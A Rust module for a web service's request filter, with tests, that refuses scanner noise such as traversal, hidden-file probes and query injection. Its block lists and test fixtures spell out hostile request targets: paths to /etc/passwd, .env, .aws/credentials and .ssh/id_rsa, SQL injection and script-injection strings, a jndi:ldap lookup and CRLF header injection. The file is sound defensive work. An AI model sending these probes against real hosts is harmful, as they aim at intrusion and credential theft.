//! What no client of ours asks for: targets that try to leave a folder, hide characters, or look for holes of other software.
//!
//! A request filter, and no more than that: it spares the tenants the noise of scanners and counts them, and nothing relies
//! on it. What a route takes is decided by the route, and a target that this rule lets through is not thereby harmless.
//!
//! It looks at the target as it came and decoded once and twice, in lower case, whatever the alphabet of its escapes.

/// Why a target is refused.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Probe {
    /// A path with NUL, line breaks or other control characters, raw or escaped, or that is no UTF-8. In a query they are for the route to name.
    Control,
    /// A path that leads upwards, or with a backslash.
    Traversal,
    /// A file or folder of other software that scanners look for.
    Scanner,
    /// A query that would be a statement, a script or an expression somewhere else.
    Injection,
}

impl Probe {
    /// Its name in metrics.
    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Control => "control",
            Self::Traversal => "traversal",
            Self::Scanner => "scanner",
            Self::Injection => "injection",
        }
    }
}

/// What the segments of a path may not begin with: hidden files, but for `.well-known` (RFC 8615).
const HIDDEN: char = '.';
const WELL_KNOWN: &str = ".well-known";

/// Endings that nothing here has.
const ENDINGS: [&str; 16] = [
    ".php", ".asp", ".aspx", ".jsp", ".jspx", ".cgi", ".pl", ".action", ".do", ".bak", ".old", ".sql", ".swp", ".ini",
    ".env", ".htaccess",
];
/// First segments that nothing here has.
const FIRST: [&str; 18] = [
    "actuator", "boaform", "cgi-bin", "console", "hnap1", "jenkins", "manager", "phpmyadmin", "pma", "server-status",
    "solr", "struts", "vendor", "webdav", "wordpress", "wp-admin", "wp-content", "wp-includes",
];
/// Parts of queries that make sense nowhere here.
const QUERIES: [&str; 15] = [
    "<script", "</script", "javascript:", "onerror=", "union select", "union all select", "' or '", "' or 1",
    "; drop table", "sleep(", "benchmark(", "${jndi:", "/etc/passwd", "../", "..\\",
];

/// Why this target is refused; `None` for one that goes on to the routes.
#[must_use]
pub fn probe(path: &str, query: Option<&str>) -> Option<Probe> {
    let paths = readings(path);
    let is_control = |text: &Vec<u8>| text.iter().any(|byte| *byte < 0x20 || *byte == 0x7f);
    if paths.iter().any(is_control) || paths.first().is_some_and(|once| std::str::from_utf8(once).is_err()) {
        return Some(Probe::Control);
    }
    paths.iter().find_map(|path| of_path(&lower(path))).or_else(|| {
        let is_injected = |text: &String| QUERIES.iter().any(|part| text.contains(part));
        let mut queries = query.map(readings).unwrap_or_default().into_iter().map(|query| spaced(&lower(&query)));
        queries.any(|text| is_injected(&text)).then_some(Probe::Injection)
    })
}

/// The text decoded once and twice; without an escape, as it is.
fn readings(text: &str) -> Vec<Vec<u8>> {
    let once = decode(text.as_bytes());
    if text.contains('%') {
        let twice = decode(&once);
        return vec![once, twice];
    }
    vec![once]
}

fn of_path(path: &str) -> Option<Probe> {
    if path.contains('\\') || path.split('/').any(|segment| segment.trim_end_matches(';') == ".." || segment == ".") {
        return Some(Probe::Traversal);
    }
    let mut segments = path.split('/').filter(|segment| !segment.is_empty());
    let is_hidden = |segment: &str| segment.starts_with(HIDDEN) && segment != WELL_KNOWN;
    let last = segments.clone().next_back().unwrap_or_default();
    let is_scanned = segments.clone().any(is_hidden)
        || segments.next().is_some_and(|first| FIRST.contains(&first))
        || ENDINGS.iter().any(|ending| last.ends_with(ending));
    is_scanned.then_some(Probe::Scanner)
}

/// The bytes with their `%` escapes taken for what they stand; one that is none stays.
fn decode(text: &[u8]) -> Vec<u8> {
    let digit =
        |byte: Option<&u8>| byte.and_then(|byte| char::from(*byte).to_digit(16)).and_then(|n| u8::try_from(n).ok());
    let (mut decoded, mut rest) = (Vec::with_capacity(text.len()), text);
    while let Some((first, after)) = rest.split_first() {
        let escaped = digit(after.first()).zip(digit(after.get(1))).filter(|_| *first == b'%');
        decoded.push(escaped.map_or(*first, |(high, low)| high << 4 | low));
        rest = after.get(if escaped.is_some() { 2 } else { 0 }..).unwrap_or_default();
    }
    decoded
}

fn lower(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).to_ascii_lowercase()
}

/// Every way to write a space in a query as one.
fn spaced(text: &str) -> String {
    text.replace('+', " ").replace("/**/", " ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(target: &str) -> Option<Probe> {
        let (path, query) = target.split_once('?').map_or((target, None), |(path, query)| (path, Some(query)));
        probe(path, query)
    }

    /// What scanners ask of every host, and what they would find out.
    const PROBES: [(&str, Probe); 53] = [
        ("/%00", Probe::Control),
        ("/v1/me%00.json", Probe::Control),
        ("/v1/me%2500", Probe::Control),
        ("/a%0d%0aSet-Cookie:x", Probe::Control),
        ("/%0a", Probe::Control),
        ("/problems/%ff", Probe::Control),
        ("/v1/audit%1f", Probe::Control),
        ("/a%7fb", Probe::Control),
        ("/../etc/passwd", Probe::Traversal),
        ("/v1/../admin", Probe::Traversal),
        ("/..%2f..%2fetc/passwd", Probe::Traversal),
        ("/%2e%2e/%2e%2e/etc/shadow", Probe::Traversal),
        ("/%252e%252e/x", Probe::Traversal),
        ("/..;/manager/html", Probe::Traversal),
        ("/a/./b", Probe::Traversal),
        ("/static/..\\..\\windows", Probe::Traversal),
        ("/%5c..%5cwindows", Probe::Traversal),
        ("/.env", Probe::Scanner),
        ("/.git/config", Probe::Scanner),
        ("/.GIT/HEAD", Probe::Scanner),
        ("/.aws/credentials", Probe::Scanner),
        ("/.svn/entries", Probe::Scanner),
        ("/.ssh/id_rsa", Probe::Scanner),
        ("/api/.env", Probe::Scanner),
        ("/.well-known/.env", Probe::Scanner),
        ("/.DS_Store", Probe::Scanner),
        ("/wp-login.php", Probe::Scanner),
        ("/wp-admin/setup-config.php", Probe::Scanner),
        ("/WP-Admin/", Probe::Scanner),
        ("/xmlrpc.php?rsd", Probe::Scanner),
        ("/index.php", Probe::Scanner),
        ("/phpmyadmin/", Probe::Scanner),
        ("/cgi-bin/luci", Probe::Scanner),
        ("/actuator/env", Probe::Scanner),
        ("/server-status", Probe::Scanner),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Probe::Scanner),
        ("/solr/admin/info/system", Probe::Scanner),
        ("/HNAP1/", Probe::Scanner),
        ("/boaform/admin/formLogin", Probe::Scanner),
        ("/backup.sql", Probe::Scanner),
        ("/config.bak", Probe::Scanner),
        ("/login.action", Probe::Scanner),
        ("/default.aspx", Probe::Scanner),
        ("//wp-includes/wlwmanifest.xml", Probe::Scanner),
        ("/?q=<script>alert(1)</script>", Probe::Injection),
        ("/?q=%3CScRiPt%3E", Probe::Injection),
        ("/?q=%253Cscript%253E", Probe::Injection),
        ("/?id=1+UNION+SELECT+1", Probe::Injection),
        ("/?id=1/**/union/**/select/**/1", Probe::Injection),
        ("/?id=1%27%20OR%20%271%27=%271", Probe::Injection),
        ("/?x=${jndi:ldap://a.test/x}", Probe::Injection),
        ("/?file=../../../etc/hosts", Probe::Injection),
        ("/?next=javascript:alert(1)", Probe::Injection),
    ];

    /// What our own clients ask for, and names and words that only sound like trouble.
    const ORDINARY: [&str; 54] = [
        "/v1/sessions?cursor=%00",
        "/",
        "/v1/me",
        "/v1/auth/login",
        "/v1/auth/refresh",
        "/v1/auth/forward",
        "/v1/auth/oauth/google/start",
        "/v1/members?limit=200&cursor=019a0000-0000-7000-8000-000000000000",
        "/v1/members/019a0000-0000-7000-8000-000000000000",
        "/v1/audit?actor=operator&since=2026-01-01T00:00:00Z&until=2026-12-31T23:59:59.999Z",
        "/v1/audit?action=session.started",
        "/v1/audit?since=2026-01-01T00%3A00%3A00%2B02%3A00",
        "/v1/sessions",
        "/v1/settings",
        "/v1/api-keys",
        "/v1/invitations?limit=1",
        "/v1/signing-keys/rotate",
        "/v1/csp-reports",
        "/v1/security-reports",
        "/security/report",
        "/.well-known/jwks.json",
        "/.well-known/security.txt",
        "/.well-known/openid-configuration",
        "/.well-known/acme-challenge/abc_DEF-123",
        "/openapi.json",
        "/problems/not-found",
        "/help/roles",
        "/auth/invitation",
        "/auth/reset",
        "/auth/verify",
        "/auth/handoff",
        "/oauth/callback?code=4/0Adeu5B-_x&state=abc&scope=email%20profile&authuser=0&prompt=consent",
        "/oauth/callback?error=access_denied&error_description=The+user+has+denied+your+application+access.",
        "/csp-report",
        "/readyz",
        "/security",
        "/security?lang=en",
        "/sdk/nd.js",
        "/webhooks/stripe",
        "/v1/chat",
        "/v1/events",
        "/v1/schema",
        "/v1/config",
        "/favicon.ico",
        "/robots.txt",
        "/apple-touch-icon.png",
        "/v1/tenants?limit=50",
        "/v1/tenants/019a0000-0000-7000-8000-000000000000/suspend",
        "/a%20b",
        "/%C3%A4",
        "/v1/members?name=O'Brien",
        "/v1/members?name=Select+Union+Ltd",
        "/v1/members?name=drop+shipping",
        "/docs/a..b/100%25",
    ];

    #[test]
    fn probes_are_known_for_what_they_are() {
        for (target, probe) in PROBES {
            assert_eq!(of(target), Some(probe), "{target}");
        }
    }

    #[test]
    fn what_clients_ask_for_goes_on() {
        for target in ORDINARY {
            assert_eq!(of(target), None, "{target}");
        }
    }

    #[test]
    fn escapes_are_read_once_each() {
        assert_eq!(decode(b"%41%4"), b"A%4");
        assert_eq!(decode(b"%2541"), b"%41");
        assert_eq!(decode(b"%zz%"), b"%zz%");
    }
}
